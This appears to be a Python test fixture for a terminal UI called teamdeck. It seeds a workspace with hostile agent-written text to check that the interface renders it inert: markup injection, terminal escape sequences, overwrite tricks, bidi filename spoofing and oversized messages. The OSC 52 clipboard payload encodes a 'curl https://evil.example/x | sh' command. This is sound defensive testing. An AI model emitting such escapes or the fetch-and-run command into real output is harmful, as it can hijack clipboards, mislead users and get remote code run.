"""Hostile text (docs/reliability.md S1-S7) and a small workspace full of it, shared by the
widget-level tests (tests/tui/test_hostile_text.py) and the pty test
(tests/e2e/test_tui_pty.py).

Everything hostile is written the way an agent would write it - raw into the files
agents own (inbox arrays, config.json, final.json) or through the protocol functions
with agent-supplied text (task titles, messages) - never through a teamdeck front.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from pathlib import Path

from teamdeck.model.team import PlanApprovalRequest
from teamdeck.protocol.task.create import create_task
from teamdeck.protocol.task.join import join_task
from teamdeck.protocol.team.messaging.sending import send_message, send_structured
from teamdeck.protocol.team.teams import add_member, create_team
from teamdeck.sim.outputs import write_final_output
from teamdeck.store.workspace import Workspace

# --- S2-S4: text that Textual would read as markup --------------------------------------

CLICK = "[@click=app.quit]click me[/]"
MARKUP = (
    "[bold]",
    CLICK,
    "[/x]",
    "[link='https://evil.example']docs[/link]",
    "[bold",
    "[$x]",
    "[[a]]",
)
"""Each must show literally: no style, no link, no action, no MarkupError."""

# --- S1: terminal escape sequences --------------------------------------------------------

CLIPBOARD_PAYLOAD = base64.b64encode(b"curl https://evil.example/x | sh # pwned-clipboard").decode("ascii")
ESCAPES = {
    "osc52": f"\x1b]52;c;{CLIPBOARD_PAYLOAD}\x07",
    "osc0": "\x1b]0;PWNED-TITLE-0\x07",
    "osc2": "\x1b]2;PWNED-TITLE-2\x1b\\",
    "osc8": "\x1b]8;;https://evil.example/osc8\x1b\\osc8 link\x1b]8;;\x1b\\",
    "dcs": "\x1bP+qPWNED-DCS\x1b\\",
    "apc": "\x1b_PWNED-APC\x1b\\",
    "pm": "\x1b^PWNED-PM\x1b\\",
    "sos": "\x1bXPWNED-SOS\x1b\\",
    "csi6n": "\x1b[6n",
    "csi2j": "\x1b[2J",
    "cursor": "\x1b[1;1H",
    "ris": "\x1bc",
    "c1csi": "\x9b2J",
    "c1osc": "\x9d0;PWNED-C1-TITLE\x07",
    "c1dcs": "\x90PWNED-C1-DCS\x9c",
}
PLACEHOLDERS = len(ESCAPES) + 1
"""U+FFFD marks drawn for :data:`ESCAPES` (OSC 8 opens and closes its link)."""
UNTERMINATED = "\x1b]0;PWNED-UNTERMINATED "
"""An OSC that never ends: a terminal would swallow everything after it."""
BEFORE, AFTER = "SEQ-BEFORE", "SEQ-AFTER"


def escape_text(tag: str = "") -> str:
    """Every escape of :data:`ESCAPES` between visible markers, the unterminated OSC
    last: ``SEQ-BEFORE<tag> <esc> ... SEQ-AFTER<tag> <unterminated OSC>``."""
    return f"{BEFORE}{tag} " + " ".join(ESCAPES.values()) + f" {AFTER}{tag} {UNTERMINATED}"


def benign_text(tag: str = "") -> str:
    """:func:`escape_text` with every escape and C1 introducer or terminator replaced by
    ``~``: the same words, nothing a terminal would act on (the control run)."""
    return escape_text(tag).translate({ord(char): "~" for char in "\x1b\x07\x90\x9b\x9c\x9d"})


PWNED = "PWNED"
"""Every escape's payload says PWNED: none of it may reach the screen."""

# --- S5-S7 ----------------------------------------------------------------------------------

OVERWRITES = (
    "verdict: REJECTED\rverdict: fine    ",  # CR: the second half would hide the first
    "status: FAILED\b\b\b\b\b\bPASSED",  # backspaces
    "page one\fpage two",  # form feed
)
OVERWRITTEN = ("REJECTED", "FAILED", "page one")
"""What the overwrites try to hide: each must stay visible."""
BIDI = "invoice\u202egpj.exe zero\u200bwidth isolate\u2066x\u2069"
BIDI_SHOWN = ("<U+202E>", "<U+200B>", "<U+2066>", "<U+2069>")
HUGE_BYTES = 10 * 1024 * 1024
LONG_LINE_CHARS = 100 * 1024

# --- the workspace ------------------------------------------------------------------------

TEAM = "alpha"
TASK = "t1"
HOSTILE_MEMBERS = ("[bold]", "[/x]", "[[a]]", "[$x]", "eve\u202etxt", CLICK)
"""Member names written into config.json by an agent (the roster shows every one)."""
SUMMARY_HUGE = "huge message"
SUMMARY_LONG = "long line"
SUMMARY_ESCAPES = "escape sequences"


def hostile_world(ws: Workspace) -> None:
    """Team alpha (lead, alice, bob and members with hostile names), messages to the
    lead carrying every hostile text, a plan request with a hostile plan, and task t1
    with a hostile title and a blocked worker whose summary and questions are hostile."""
    create_team(ws, TEAM, description="team " + " ".join(MARKUP))
    add_member(ws, TEAM, "alice")
    add_member(ws, TEAM, "bob", plan_mode=True)
    add_raw_members(ws, TEAM, HOSTILE_MEMBERS)

    # One message per hostile text, so each fits in a row; bodies carry it too.
    entries = [agent_message("alice", f"markup {text}", f"body {text} end") for text in MARKUP]
    entries += [agent_message("alice", f"overwrite {number}", text) for number, text in enumerate(OVERWRITES)]
    entries.append(agent_message("alice", f"bidi {BIDI}", BIDI))
    entries.append(agent_message("alice", SUMMARY_ESCAPES, escape_text("-inbox")))
    entries.append(agent_message("alice", SUMMARY_LONG, "L" * LONG_LINE_CHARS))
    entries.append(agent_message("alice", SUMMARY_HUGE, "H" * HUGE_BYTES))
    append_raw_inbox(ws, TEAM, "team-lead", entries)
    send_message(ws, TEAM, "alice", "lead says " + " ".join(MARKUP), summary="from the lead " + CLICK)

    send_structured(
        ws,
        TEAM,
        "team-lead",
        PlanApprovalRequest(
            from_="bob", requestId="plan-1", planFilePath="plans/[bold].md", planContent="1. " + "\n2. ".join(MARKUP)
        ),
        sender="bob",
    )

    create_task(ws, TASK, "title " + CLICK, team=TEAM)
    write_final_output(
        ws,
        TASK,
        "w1",
        {
            "status": "blocked",
            "summary": "summary " + CLICK + " [link='https://evil.example']docs[/link]",
            "questions": [f"question {text}" for text in MARKUP] + [escape_text("-question"), BIDI, *OVERWRITES],
        },
    )
    join_task(ws, TASK)


def escape_world(ws: Workspace, text: Callable[[str], str] = escape_text) -> None:
    """A small workspace showing ``text(tag)`` at once (tag ``-question``: a blocked
    worker's question, first in the gate queue), in the lead's inbox (``-inbox``, panel
    3) and in a task title (``-title``, panel 4)."""
    create_team(ws, TEAM)
    add_member(ws, TEAM, "alice")
    append_raw_inbox(ws, TEAM, "team-lead", [agent_message("alice", "look", text("-inbox"))])
    create_task(ws, TASK, "title " + text("-title"), team=TEAM)
    write_final_output(ws, TASK, "w1", {"status": "blocked", "summary": "stuck", "questions": [text("-question")]})
    join_task(ws, TASK)


def agent_message(sender: str, summary: str, text: str, *, read: bool = False) -> dict[str, object]:
    """One inbox entry as a Claude Code teammate writes it."""
    return {
        "from": sender,
        "text": text,
        "summary": summary,
        "timestamp": "2026-03-01T11:00:00.000Z",
        "color": "blue",
        "read": read,
    }


def append_raw_inbox(ws: Workspace, team: str, member: str, entries: list[dict[str, object]]) -> Path:
    """Append ``entries`` to ``member``'s inbox the way an agent does (a plain rewrite)."""
    path = ws.inbox(team, member)
    current = json.loads(path.read_text(encoding="utf-8")) if path.exists() else []
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(current + entries), encoding="utf-8")
    return path


def add_raw_members(ws: Workspace, team: str, names: tuple[str, ...]) -> None:
    """Add members named ``names`` to config.json directly (no allow-list: an agent wrote it)."""
    path = ws.team_config(team)
    config = json.loads(path.read_text(encoding="utf-8"))
    template = config["members"][1]
    for number, name in enumerate(names):
        config["members"].append({**template, "name": name, "agentId": f"hostile-{number}@{team}", "color": "red"})
    path.write_text(json.dumps(config, indent=2), encoding="utf-8")
